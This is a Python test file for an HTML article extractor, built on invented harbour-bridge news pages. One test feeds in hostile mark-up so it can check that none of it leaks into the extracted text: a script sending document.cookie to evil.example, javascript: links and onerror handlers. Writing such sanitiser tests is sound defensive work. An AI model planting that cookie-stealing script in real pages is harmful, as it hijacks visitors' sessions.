"""HTML pages read from their structure: zones, title from metadata, fallbacks, hostile mark-up.
Every page here is written for the test."""

from __future__ import annotations

import json

import pytest

from analysis.article import article_from_string, load_article
from analysis.reading import html as html_reading

PARAGRAPHS = [
    "The regional council voted on Thursday to close the old harbour bridge to lorries after "
    "engineers found cracks in two of its concrete supports during a routine inspection.",
    "Traders on the island said the decision would add an hour to every delivery and raise "
    "the price of fresh food in the coming weeks, especially in the smaller villages.",
    "The council leader said safety came first and promised a temporary ferry service for "
    "goods within a month, paid for from the emergency budget agreed last spring.",
    "Engineers expect repairs to take at least a year, and the bridge will stay open to cars "
    "and buses at reduced speed while the work goes on around them.",
    "A public meeting on the ferry timetable is planned for next Tuesday in the town hall, "
    "where residents will be able to question the engineers directly.",
]
NAV = (
    "<header><nav><ul><li><a href='/'>Home</a></li><li><a href='/news'>News</a></li>"
    "<li><a href='/sport'>Sport</a></li></ul></nav></header>"
)
FOOTER = "<footer><p>Copyright 2024 Island Courier. All rights reserved.</p></footer>"


def _page(body: str, head: str = "<title>Harbour bridge closed | Island Courier</title>") -> str:
    return (
        f"<html><head>{head}</head><body>{NAV}<main><article>{body}</article></main>"
        f"{FOOTER}</body></html>"
    )


def _paragraphs(items: list[str]) -> str:
    return "".join(f"<p>{p}</p>" for p in items)


def test_structure_gives_the_zones_and_no_markdown():
    body = (
        "<h1>Harbour bridge closed to lorries</h1>"
        "<p class='standfirst'>Cracks found in two supports of the old bridge<br>"
        "June 20, 2024</p>"
        f"<p>{PARAGRAPHS[0]}</p>"
        "<figure><img src='/img/bridge.jpg' alt='The old harbour bridge'>"
        "<figcaption>The bridge at dusk on Wednesday.</figcaption></figure>"
        f"<p>{PARAGRAPHS[1]}</p>"
        "<p><strong>What traders say</strong></p>"
        f"<p>{PARAGRAPHS[2]} <em>Really.</em></p>"
        "<h2>What happens next</h2>"
        "<ul><li>A ferry for goods within a month</li><li>Repairs for a year</li></ul>"
        "<blockquote><p>Safety comes first, whatever it costs.</p></blockquote>"
        f"<p>{PARAGRAPHS[3]}</p><p>{PARAGRAPHS[4]}</p>"
    )
    article = article_from_string(_page(body), fmt="html")
    assert article.extraction == "trafilatura"
    assert article.title == "Harbour bridge closed to lorries"
    assert [b.zone for b in article.blocks][:3] == ["title", "body", "meta"]
    assert article.zone("meta")[0].text == "June 20, 2024"
    assert article.headings == ("What traders say", "What happens next")
    assert [b.text for b in article.zone("image_title")] == ["The old harbour bridge"]
    assert [b.text for b in article.zone("caption")] == ["The bridge at dusk on Wednesday."]
    texts = [p.text for p in article.paragraphs]
    assert texts[0] == "Cracks found in two supports of the old bridge"
    assert "A ferry for goods within a month" in texts
    assert "Safety comes first, whatever it costs." in texts
    assert texts[-1] == PARAGRAPHS[4]
    for artefact in ("**", "*", "![", "](", "#", "<", ">", "_Really"):
        assert artefact not in article.text
    assert "Home" not in article.text and "Copyright" not in article.text
    for block in article.blocks:
        assert article.text[block.start : block.end] == block.text


def test_the_title_comes_from_metadata_when_the_body_has_none():
    head = (
        "<title>Harbour bridge closed to lorries | Island Courier</title>"
        "<meta property='og:title' content='Harbour bridge closed to lorries'>"
    )
    article = article_from_string(_page(_paragraphs(PARAGRAPHS), head), fmt="html")
    assert article.title == "Harbour bridge closed to lorries"
    assert article.zone("title")[0].text == article.title
    assert article.zone_counts()["title"] == 1
    assert [p.text for p in article.paragraphs] == PARAGRAPHS


def _ld_json_head(story: list[str]) -> str:
    data = {
        "@context": "https://schema.org",
        "@type": "NewsArticle",
        "headline": "Harbour bridge closed to lorries",
        "articleBody": "\n\n".join(story),
    }
    return (
        "<title>Harbour bridge closed</title><script type='application/ld+json'>"
        + json.dumps(data)
        + "</script>"
    )


STORY = [p + " " + p for p in PARAGRAPHS] * 3  # about 500 words


def test_a_story_that_sits_in_ld_json_is_read_from_there():
    shown = (
        f"<p>{PARAGRAPHS[0]} {PARAGRAPHS[1]}</p><figure><img src='/a.jpg'>"
        "<figcaption>Lorries queue at the bridge on Thursday morning.</figcaption></figure>"
    )
    article = article_from_string(_page(shown, _ld_json_head(STORY)), fmt="html")
    assert article.extraction == "ld+json"
    assert [p.text for p in article.paragraphs] == STORY
    fallback = [w for w in article.warnings if w.code == "fallback"]
    assert fallback and "ld+json 840 words" in fallback[0].message
    assert article.title == "Harbour bridge closed to lorries"  # the JSON headline


def test_a_page_showing_only_a_caption_still_gives_the_story_from_its_json():
    caption = (
        "<figure><img src='/a.jpg' alt=''><figcaption>Lorries queue at the bridge on "
        "Thursday morning after the council decision, as drivers wait for news of the "
        "ferry.</figcaption></figure>"
    )
    article = article_from_string(_page(caption, _ld_json_head(STORY)), fmt="html")
    # trafilatura's own JSON-LD fallback or ours: either way the story is read, not the caption.
    assert [p.text for p in article.paragraphs] == STORY


def test_citation_doi_and_copyright_lines_of_a_science_page_are_furniture():
    body = (
        _paragraphs(PARAGRAPHS[:3])
        + "<p>More information: Ana Silva et al, Cracks in coastal concrete, Journal of "
        "Bridges (2024). DOI: 10.1234/jb.2024.0567</p>"
        "<p>Journal information: Journal of Bridges</p>"
        "<p>Provided by Northfield University</p>"
        "<p>Citation: Bridge cracks explained (2024, June 3) retrieved 4 June 2024 from "
        "https://example.org/news/bridge-cracks.html</p>"
        "<p>This document is subject to copyright. Apart from any fair dealing for the "
        "purpose of private study or research, no part may be reproduced without the "
        "written permission.</p>"
    )
    article = article_from_string(_page(body), fmt="html")
    assert [p.text for p in article.paragraphs] == PARAGRAPHS[:3]
    assert [b.reason for b in article.boilerplate] == [
        "more-information line",
        "citation or DOI",
        "more-information line",
        "citation or DOI",
        "copyright",
    ]


def test_teasers_for_other_posts_are_not_the_story():
    teasers = "".join(
        f"<h2>{title}</h2><p>{text} […]</p><p><a href='/p/{n}'>Read more</a></p>"
        for n, (title, text) in enumerate(
            [
                ("Ferry timetable published", "The new timetable gives traders three crossings"),
                ("Lorry drivers protest", "Dozens of drivers parked along the quay to protest"),
                ("Council budget approved", "The emergency budget was approved after a long"),
            ]
        )
    )
    article = article_from_string(_page(_paragraphs(PARAGRAPHS) + teasers), fmt="html")
    assert [p.text for p in article.paragraphs] == PARAGRAPHS
    assert article.headings == ()


def test_wire_credits_and_read_more_links_are_furniture_in_html():
    body = (
        _paragraphs(PARAGRAPHS[:2])
        + "<p><em>Read more</em></p>"
        + _paragraphs(PARAGRAPHS[2:])
        + "<p>Reporting by Ana Lima; Editing by Kim Lee</p>"
        "<p>Our Standards: The Agency Trust Principles.</p>"
    )
    article = article_from_string(_page(body), fmt="html")
    assert [p.text for p in article.paragraphs] == PARAGRAPHS
    assert [b.reason for b in article.boilerplate] == [
        "read-more prompt",
        "wire credit",
        "standards note",
    ]
    assert [w.code for w in article.warnings] == ["furniture-in-story"]


def test_hostile_markup_never_reaches_the_text():
    body = (
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        f"<p>{PARAGRAPHS[0]}<img src=x onerror=\"alert('img')\"></p>"
        "<iframe src='javascript:alert(1)'></iframe>"
        f'<p><a href="javascript:alert(\'link\')" onclick="steal()">The council</a> said '
        "the text &lt;script&gt;alert('shown')&lt;/script&gt; was a prank sent to its office.</p>"
        "<style>body { display: none }</style><noscript>Enable JavaScript</noscript>"
        f"<form action='/x'><input name='q' value='search terms'></form>"
        + _paragraphs(PARAGRAPHS[1:])
    )
    article = article_from_string(_page(body), fmt="html")
    for leak in (
        "document.cookie",
        "onerror",
        "onclick",
        "javascript:",
        "steal()",
        "display: none",
        "Enable JavaScript",
        "search terms",
        "<img",
        "<a ",
    ):
        assert leak not in article.text
    # Text that the page shows (escaped in its source) is kept as text, decoded once.
    assert "the text <script>alert('shown')</script> was a prank" in article.text


def test_a_page_with_nothing_but_furniture_is_a_named_error(tmp_path):
    from analysis.errors import NoReadableTextError

    path = tmp_path / "nav.html"
    path.write_text(_page("<p>Share this story</p><p>Advertisement</p>"), encoding="utf-8")
    with pytest.raises(NoReadableTextError):
        load_article(path)


def test_a_thin_extraction_falls_back_and_says_so(monkeypatch):
    thin = [html_reading.Piece("paragraph", "Lorries queue at the bridge.")]
    monkeypatch.setattr(html_reading, "_trafilatura_pieces", lambda tree, figures: ("", thin))
    monkeypatch.setattr(html_reading, "_recall_pieces", lambda tree, figures: [])
    page = _page(
        "<div>"
        + "".join(f"<p>{p}</p>" for p in PARAGRAPHS)
        + "</div>"
        + "<ul>"
        + "".join(f"<li><a href='/{n}'>Link {n}</a></li>" for n in range(300))
        + "</ul>"
    )
    article = article_from_string(page, fmt="html")
    assert article.extraction == "justext"
    assert [p.text for p in article.paragraphs] == PARAGRAPHS
    codes = [w.code for w in article.warnings]
    assert "fallback" in codes
    fallback = next(w for w in article.warnings if w.code == "fallback")
    assert "trafilatura 5 words" in fallback.message and "justext" in fallback.message


def test_a_page_that_stays_thin_is_flagged(monkeypatch):
    thin = [
        html_reading.Piece(
            "paragraph", "Lorries queue at the bridge on Thursday as drivers wait for news."
        )
    ]
    monkeypatch.setattr(html_reading, "_trafilatura_pieces", lambda tree, figures: ("", thin))
    monkeypatch.setattr(html_reading, "_recall_pieces", lambda tree, figures: [])
    monkeypatch.setattr(html_reading, "_justext_pieces", lambda tree, figures: [])
    page = _page(
        "<ul>"
        + "".join(f"<li><a href='/{n}'>Other story {n}</a></li>" for n in range(200))
        + "</ul>"
    )
    article = article_from_string(page, fmt="html")
    assert article.extraction == "trafilatura"
    assert [w.code for w in article.warnings] == ["thin-body"]


def test_a_standfirst_and_a_date_in_one_heading_are_split():
    body = (
        "<h1>Harbour bridge closed</h1><h2>Cracks found in two supports<br>"
        "20 June 2024 08:15</h2>" + _paragraphs(PARAGRAPHS)
    )
    article = article_from_string(_page(body), fmt="html")
    assert article.headings == ("Cracks found in two supports",)
    assert [b.text for b in article.zone("meta")] == ["20 June 2024 08:15"]
